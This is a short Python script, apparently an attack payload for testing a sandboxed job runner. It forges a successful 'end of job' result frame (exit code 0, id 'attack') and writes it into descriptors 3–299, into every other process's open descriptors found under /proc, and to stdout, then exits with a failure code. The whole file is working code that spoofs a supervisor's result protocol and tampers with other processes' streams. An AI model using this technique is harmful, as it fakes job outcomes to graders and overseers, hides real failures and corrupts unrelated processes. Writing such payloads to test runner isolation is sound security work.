"""Writes a good end of the job into every descriptor that it finds."""

import contextlib
import glob
import json
import os
import struct

end = json.dumps(
    {
        "id": "attack",
        "exit_code": 0,
        "signal": 0,
        "reason": None,
        "out_of_memory": False,
        "wall_seconds": 0.0,
        "cpu_seconds": 0.0,
        "peak_memory_bytes": 0,
        "truncated": False,
        "refused": None,
        "broken": None,
        "files": [],
    }
)
frame = struct.pack(">cI", b"E", len(end)) + end.encode()
for number in range(3, 300):
    with contextlib.suppress(OSError):
        os.write(number, frame)
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if int(path.split("/")[2]) != os.getpid():
            os.write(os.open(path, os.O_WRONLY), frame)
    except OSError:
        pass
os.write(1, frame)
raise SystemExit(7)
